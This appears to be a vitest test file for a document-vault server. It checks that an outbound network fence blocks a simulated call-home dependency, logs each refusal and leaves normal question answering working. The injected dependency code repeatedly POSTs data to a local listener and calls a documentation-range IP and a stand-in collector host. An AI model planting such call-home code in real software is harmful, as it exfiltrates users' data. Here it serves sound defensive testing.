import { once } from 'node:events';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import net, { type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type ApiClient, createApiClient } from '../src/cli/api-client.ts';
import { setUpToken } from './vault-fixture.ts';
import { spawnVault, type VaultProcess } from './vault-process.ts';

type Entries = { items: { outcome: string; details: Record<string, unknown> }[] };

let folder: string;
let listener: net.Server;
let server: VaultProcess;
let client: ApiClient;
let reached = 0;

/**
 * A dependency that calls home, put into the real server from outside. It begins when our first line has run, which is when a dependency could, and
 * tries on and on: also before the log is open.
 */
const callsHome = (port: number) => `
  const { prototype } = process.binding('tcp_wrap').TCP;
  setInterval(() => {
    if (Object.getOwnPropertyDescriptor(prototype, 'connect').writable) return;
    fetch('http://127.0.0.1:${port}/', { method: 'POST', body: 'a document' }).catch(() => {});
    fetch('https://192.0.2.1/').catch(() => {});
    fetch('https://collector.example.org/').catch(() => {});
  }, 50).unref();`;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'nexus-no-way-out-'));
  listener = net.createServer((socket) => {
    reached += 1;
    socket.destroy();
  });
  listener.listen(0, '127.0.0.1');
  await once(listener, 'listening');
  const library = join(folder, 'calls-home.mjs');
  await writeFile(library, callsHome((listener.address() as AddressInfo).port));
  server = await spawnVault(join(folder, 'data'), { NODE_OPTIONS: `--import=${library}` });
  client = createApiClient(server.url, { token: await setUpToken(server, 'ana@example.org') });
});

afterAll(async () => {
  await server?.stop();
  listener?.close();
  await rm(folder, { recursive: true, force: true });
});

test('what a library of the server tries to send reaches nobody, and the log says so once for each kind', async () => {
  const { items } = await client.get<Entries>('/audit/entries?action=outbound.refused');
  expect(reached).toBe(0);
  expect(items.every(({ outcome }) => outcome === 'denied')).toBe(true);
  const kinds = items.map(({ details }) => `${details['protocol']} ${details['addressClass']}`).sort();
  expect(kinds).toEqual(['dns name', 'tcp loopback', 'tcp public']);
  expect(JSON.stringify(items)).not.toMatch(/192\.0\.2|collector|127\.0/);
});

test('the security page says that the fence stands, and that sources have no signature', async () => {
  type Control = { id: string; state: string; facts: Record<string, unknown> };
  const { items } = await client.post<{ items: Control[] }>('/controls/checks');
  const fence = items.find(({ id }) => id === 'outbound.fence');
  expect(fence).toMatchObject({ state: 'ok', facts: { destinations: 0 } });
  expect(fence?.facts['fencedPlaces']).toBeGreaterThan(15);
  expect(items.find(({ id }) => id === 'outbound.program')).toMatchObject({
    state: 'attention',
    facts: { origin: 'sources' },
  });
});

test('the server itself works on: it reads, answers, and its threads and children too', async () => {
  const { id } = await client.post<{ id: string }>('/spaces', { name: 'Cerrado' });
  await client.upload(id, 'aval.txt', new Blob(['El banco Ficticio emitió el aval AV-2024-00391 por 12.000 euros.']));
  await expect
    .poll(async () => (await client.get<{ ready: number }>(`/spaces/${id}/ingest`)).ready, { timeout: 60_000 })
    .toBe(1);
  const text = '¿Qué banco emitió el aval AV-2024-00391?';
  expect((await client.post<{ outcome: string }>('/questions', { text })).outcome).toBe('answered');
});
